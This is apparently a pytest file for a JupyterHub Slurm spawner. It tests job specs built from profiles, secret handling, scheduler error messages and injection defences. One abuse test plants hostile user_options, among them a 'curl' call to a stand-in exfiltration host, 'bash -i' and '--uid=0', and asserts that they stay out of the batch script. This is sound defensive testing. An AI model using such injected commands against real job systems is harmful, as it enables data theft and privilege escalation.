"""SlurmSandboxSpawner without a cluster: the job it writes from a profile, what it refuses
to take from a user, the scheduler's refusals as messages (the cluster tests are in
test_hub.py)."""

from __future__ import annotations

import asyncio
from types import SimpleNamespace

import pytest
from hdss_slurm import spawner as slurm_spawner
from hdss_slurm.jobscript import PORT_ARG
from hdss_slurm.spawner import SlurmSandboxSpawner, explain, mem_mb
from hdss_spawner.profiles import parse_profiles
from jupyterhub.apihandlers import default_handlers

TOKEN = "secret-token-3f9a"
PROFILES = {
    "course": {"cpu_limit": 1, "mem_limit": "2G", "groups": ["students"]},
    "research": {
        "cpu_limit": 2,
        "mem_limit": "6G",
        "groups": ["researchers"],
        "partition": "bigmem",
        "qos": "research",
        "time_limit": "1-00:00:00",
    },
    "secure": {"cpu_limit": 2, "mem_limit": "4G", "groups": ["researchers"], "kind": "secure"},
}


def make(name: str = "", profile: str = "course", **traits) -> SlurmSandboxSpawner:
    user = SimpleNamespace(name="alice@uni", groups=[], url="/user/alice@uni/")
    orm = SimpleNamespace(name=name, user_options={}, server=None, state={})
    sp = SlurmSandboxSpawner(user=user, orm_spawner=orm, profiles=PROFILES, **traits)
    sp.profile = parse_profiles(PROFILES)[profile]
    env = {
        "JUPYTERHUB_API_TOKEN": TOKEN,
        "JPY_API_TOKEN": TOKEN,
        "JUPYTERHUB_SERVICE_URL": "http://0.0.0.0:0/user/alice@uni/",
        "HDSS_DATA_ROOT": "/data/synthetic",
        "PATH": "/hub/venv/bin:/usr/bin",
        "LANG": "C.UTF-8",
    }
    sp.get_env = lambda: dict(env)
    sp.get_args = lambda: ["--debug"]
    return sp


def script_of(sp: SlurmSandboxSpawner) -> str:
    return asyncio.run(sp._get_batch_script())


def test_a_course_profile_becomes_a_job_on_the_default_partition():
    sp = make()
    spec = sp.job_spec()
    assert (spec.partition, spec.cpus, spec.mem_mb, spec.time_limit) == (
        "sandbox",
        1,
        2048,
        "08:00:00",
    )
    assert spec.home == "/cluster/home/alice-40uni"
    assert spec.command[-2:] == ["--ip=0.0.0.0", PORT_ARG]
    assert not spec.secure and spec.report_port


def test_a_profile_names_its_partition_and_time_and_secure_goes_to_the_secure_partition():
    research = make(profile="research").job_spec()
    assert (research.partition, research.mem_mb, research.time_limit) == (
        "bigmem",
        6144,
        "1-00:00:00",
    )
    secure = make(name="secure-p1", profile="secure")
    secure.permission = SimpleNamespace(datasets=("dk-restricted",), reference="SDS-1")
    spec = secure.job_spec()
    assert spec.partition == "secure" and spec.secure
    assert spec.restricted == ["dk-restricted"]
    assert spec.home == "/cluster/projects/p1"
    assert "--ContentsManager.files_handler_class=None" in spec.command


@pytest.mark.abuse
def test_secrets_are_passed_by_name_and_the_host_environment_stays_out():
    script = script_of(make())
    assert TOKEN not in script
    assert "--env JUPYTERHUB_API_TOKEN" in script and "--env HDSS_DATA_ROOT" in script
    assert "/hub/venv/bin" not in script and "--env PATH" not in script
    assert "--env LANG" not in script


@pytest.mark.abuse
def test_user_options_cannot_change_the_job():
    """batchspawner's own template takes user_options as template variables; ours is
    rendered from the profile only (positive control: the profile's values are there)."""
    sp = make()
    sp.user_options = {
        "profile": "course",
        "partition": "secure",
        "options": "--uid=0",
        "prologue": "curl http://exfil.invalid",
        "cmd": "bash -i",
    }
    script = script_of(sp)
    assert "#SBATCH --partition=sandbox" in script
    assert "secure" not in script.split("#SBATCH --partition=")[1].splitlines()[0]
    for planted in ("--uid=0", "exfil.invalid", "bash -i"):
        assert planted not in script


@pytest.mark.abuse
def test_batchspawners_attribute_setting_api_is_not_served():
    """Its handler sets any spawner attribute a server's token posts (e.g. ip, to point the
    proxy elsewhere); importing our spawner removes it from the hub's handlers."""
    assert slurm_spawner.BATCHSPAWNER_API not in [h[0] for h in default_handlers]
    assert r"/api/users" in [h[0] for h in default_handlers]  # control: the hub's are there


def test_submission_runs_as_the_cluster_account_never_as_the_user():
    sp = make(job_uid=1000, job_gid=100)
    assert sp.batch_submit_cmd == "sbatch --parsable --uid=1000 --gid=100"
    assert sp.exec_prefix == ""
    assert make().batch_submit_cmd == "sbatch --parsable"


def test_the_port_comes_from_the_jobs_comment():
    sp = make(node_addresses={"node1": "10.0.0.11"})
    sp.job_status = "RUNNING node1 hdss-port=41234"
    assert sp.job_port() == 41234 and sp.state_gethost() == "10.0.0.11"
    sp.job_status = "RUNNING node2 (null)"
    assert sp.job_port() == 0 and sp.state_gethost() == "node2"


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("sbatch: error: invalid partition specified: nosuch", "no partition 'nosuch'"),
        ("sbatch: error: Unable to contact slurm controller (connect failure)", "not answer"),
        ("sbatch: error: Invalid authentication credential", "munge key"),
        (
            "sbatch: error: Batch job submission failed: Requested node configuration is not "
            "available",
            "CPUs or memory",
        ),
        ("something new", "refused the server's job: something new"),
    ],
)
def test_the_schedulers_refusals_say_what_to_do(said, expected):
    assert expected in explain(said, "nosuch")


def test_memory_limits_in_slurm_megabytes():
    assert [mem_mb("2G"), mem_mb("512M"), mem_mb("1T"), mem_mb(None)] == [
        2048,
        512,
        1024**2,
        1024,
    ]
    with pytest.raises(ValueError, match="memory limit"):
        mem_mb("lots")


@pytest.mark.parametrize(
    ("place", "pending", "reason", "expected"),
    [
        (2, 3, "Resources", "partition is full: you are 2nd of 3 waiting"),
        (1, 1, "Priority", "you are 1st of 1 waiting"),
        (1, 1, "None", "being placed on a node of sandbox"),
        (1, 1, "QOSMaxJobsPerUserLimit", "the scheduler says QOSMaxJobsPerUserLimit"),
        (0, 0, "", "being placed"),
    ],
)
def test_the_progress_page_says_why_the_job_waits(place, pending, reason, expected):
    assert expected in slurm_spawner.pending_note("7", "sandbox", place, pending, reason)
